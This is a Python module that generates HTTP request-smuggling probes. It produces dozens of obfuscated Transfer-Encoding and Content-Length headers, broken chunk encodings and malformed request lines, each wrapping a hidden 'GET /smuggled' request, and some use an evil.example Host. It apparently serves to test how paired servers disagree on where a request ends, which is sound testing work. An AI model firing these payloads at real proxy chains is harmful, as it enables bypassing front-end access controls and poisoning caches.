"""Requests whose end two servers may see at different places: behind each stands another, hidden from the first."""

HIDDEN = b"/smuggled"
INNER = b"GET /smuggled HTTP/1.1\r\nHost: localhost\r\nX: y"
BODY = INNER + b"\r\n\r\n"


def chunk(content: bytes) -> bytes:
    return b"%x\r\n%s\r\n" % (len(content), content)


ENDED = b"0\r\n\r\n"
TRANSFER_ENCODINGS = (
    b"Transfer-Encoding: chunked",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding\t: chunked",
    b" Transfer-Encoding: chunked",
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding:\x0bchunked",
    b"Transfer-Encoding: \x00chunked",
    b"Transfer-Encoding:\r\n chunked",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: chunked\x00",
    b"X: y\rTransfer-Encoding: chunked",
    b"X: y\nTransfer-Encoding: chunked",
    b"Transfer_Encoding: chunked",
    b"Transfer-Encoding: CHUNKED",
)
LENGTHS = (
    b"Content-Length: 0\r\nContent-Length: %d",
    b"Content-Length: %d\r\nContent-Length: 0",
    b"Content-Length: 0, %d",
    b"Content-Length: -%d",
    b"Content-Length: +%d",
    b"Content-Length: 0x%x",
    b"Content-Length: %d ;",
    b"Content-Length: 1e%d",
    b"Content-Length: 0_%d",
    b"Content-Length: 99999999999999999999%d",
    b"Content-Length : %d",
    b" Content-Length: %d",
    b"Content-Length:\r\n %d",
    b"Content_Length: %d",
    b"Content-Length: \xd9\xa1%d",
)
BROKEN_CHUNKS = (
    b"0\n\n",
    b"0\r\r\n\n",
    b"-1\r\n\r\n",
    b"0x0\r\n\r\n",
    b"0;a=\n\r\n\r\n",
    b"1 \r\nZ\r\n0 \r\n\r\n",
    b"1\r\nZZ0\r\n\r\n",
    b"fffffffffffffffff1\r\n\r\n",
    b"+0\r\n\r\n",
    b"0\r\nContent-Length: 5\r\nTransfer-Encoding: x\r\n\r\n",
)
TARGETS = (
    b"GET /a HTTP/1.1\nHost: {host}\nConnection: close\n\n",
    b"GET http://localhost/a HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
    b"GET http://evil.example/a HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n",
    b"GET /a HTTP/1.1\r\nHost: {host}\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
    b"GET /a HTTP/1.1\r\nHost: {host}\r\n folded: GET /smuggled HTTP/1.1\r\nConnection: close\r\n\r\n",
    b"GET /a HTTP/1.1 HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n",
    b"GET /a\x00 HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n",
    b"GET\t/a HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n",
    b"GET /a HTTP/1.1\r\nHost: {host}\r\n: empty\r\nConnection: close\r\n\r\n",
    b"GET /a HTTP/9.9\r\nHost: {host}\r\nConnection: close\r\n\r\n",
    b"GET /a\r\n\r\n",
    b"CONNECT localhost:443 HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n",
    b"TRACE / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n",
    b"GET /a HTTP/1.1\r\nHost: {host}\r\nConnection: close, Host\r\n\r\n",
    b"GET /a HTTP/1.1\r\nHost: {host}\r\nUpgrade: h2c\r\nConnection: Upgrade, close\r\n\r\n",
    b"GET /a%20HTTP/1.1%0d%0aHost:%20x%0d%0a%0d%0aGET%20/smuggled HTTP/1.1\r\nHost: {host}\r\n\r\n",
)


def requests(host: str) -> dict[str, bytes]:
    """By name. Each is one request for whoever reads it rightly, or none at all."""
    found = {}
    for number, header in enumerate(TRANSFER_ENCODINGS):
        for name, length in (("chunks first", 4), ("length first", len(ENDED + BODY))):
            content = ENDED + BODY
            lines = (b"Content-Length: %d" % length, header)
            found[f"encoding {number}, {name}"] = _post(host, lines, content)
    for number, header in enumerate(LENGTHS):
        value = header % len(BODY) if header.count(b"%") else header
        found[f"length {number}"] = _post(host, (value,), BODY)
    for number, chunks in enumerate(BROKEN_CHUNKS):
        found[f"chunks {number}"] = _post(host, (b"Transfer-Encoding: chunked",), chunks + BODY)
    for number, text in enumerate(TARGETS):
        found[f"target {number}"] = text.replace(b"{host}", host.encode())
    found["length of nothing"] = _post(host, (b"Content-Length: %d" % len(BODY),), BODY, method=b"GET")
    return found


def _post(host: str, headers: tuple[bytes, ...], content: bytes, method: bytes = b"POST") -> bytes:
    lines = (method + b" /follow HTTP/1.1", b"Host: " + host.encode(), b"Connection: keep-alive", *headers)
    return b"\r\n".join(lines) + b"\r\n\r\n" + content
